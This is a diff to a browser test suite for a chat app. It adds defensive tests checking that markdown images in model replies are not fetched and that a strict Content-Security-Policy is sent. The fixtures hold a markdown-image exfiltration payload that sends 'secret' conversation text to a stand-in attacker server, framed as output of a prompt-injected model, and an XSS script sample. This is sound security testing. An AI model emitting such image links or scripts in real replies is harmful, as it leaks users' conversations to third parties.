@@ -35,6 +35,12 @@ XSS = (
     "```html\n<script>window.__pwned=7</script>\n```\n"
 )
 
+EXFIL = (
+    "Summary done. ![status]({url}/pixel.png?c=the+secret+conversation)\n\n"
+    "Also ![logo][ref] and a link [{url}/link]({url}/link) and `![code]({url}/code.png)`.\n\n"
+    "[ref]: {url}/ref.png?c=more+secrets\n"
+)
+
 pytestmark = [
     pytest.mark.slow,
     pytest.mark.timeout(120),
@@ -84,6 +90,8 @@ class BrowserLLM(BaseChatModel):
         elif text.startswith("files"):
             items = [i for i in messages[-1].content if not isinstance(i, str) and i.kind == "file"]
             yield say("received " + ", ".join(Path(i.file).name for i in items))
+        elif text.startswith("exfil "):  # a prompt-injected document made the model write this
+            yield say(EXFIL.format(url=text.split()[1]))
         elif text == "fail":
             raise ModelServiceError(400, "the model refused <b>this</b>")
         else:
@@ -351,3 +359,68 @@ def test_an_assistant_cites_an_uploaded_pdf(browser, tmp_path: Path) -> None:
     finally:
         context.close()
         ui.close()
+
+
+@pytest.fixture
+def attacker() -> Iterator[tuple[str, list[str]]]:
+    """A second loopback server standing for the attacker's: it records every request it gets."""
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    seen: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *args) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    server.shutdown()
+    server.server_close()
+
+
+def test_images_in_a_reply_do_not_make_the_browser_fetch_anything(browser, app: App, attacker) -> None:
+    from playwright.sync_api import expect
+
+    url, seen = attacker
+    external: list[str] = []
+    context, page = open_page(browser, app, external)
+    try:
+        send(page, f"exfil {url}")
+        expect(page.locator("#chatbot")).to_contain_text("Summary done.")
+        # the images are shown as links to click
+        links = page.locator("#chatbot a")
+        shown_as_links = [links.filter(has_text=alt).count() for alt in ("status", "logo")]
+        # and even an image the page itself asked for (say, through a renderer we did not foresee) is refused
+        page.evaluate("u => { const i = new Image(); i.src = u + '/direct.png'; document.body.appendChild(i); }", url)
+        page.evaluate("u => fetch(u + '/fetch').catch(() => null)", url)
+        send(page, "after")
+        expect(page.locator("#chatbot")).to_contain_text("echo: after")
+        time.sleep(0.5)
+    finally:
+        context.close()
+    assert seen == [], f"the browser fetched from the attacker's server: {seen}"
+    # nothing the renderer made even tried (the page's own Image() and fetch() did, and were refused)
+    assert [u for u in external if u.startswith(url) and not u.endswith(("/direct.png", "/fetch"))] == []
+    assert shown_as_links == [1, 1]
+
+
+def test_the_app_sends_a_restrictive_content_security_policy(app: App) -> None:
+    import httpx
+
+    for path in ("/", "/config", "/gradio_api/info"):
+        response = httpx.get(app.url + path, timeout=10)
+        policy = response.headers.get("content-security-policy", "")
+        directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
+        assert directives.get("img-src") == ["'self'", "data:", "blob:"], (path, policy)
+        assert directives.get("connect-src") == ["'self'"], (path, policy)
+        assert directives.get("default-src") == ["'self'"] and directives.get("object-src") == ["'none'"], policy
+        assert response.headers.get("x-content-type-options") == "nosniff"
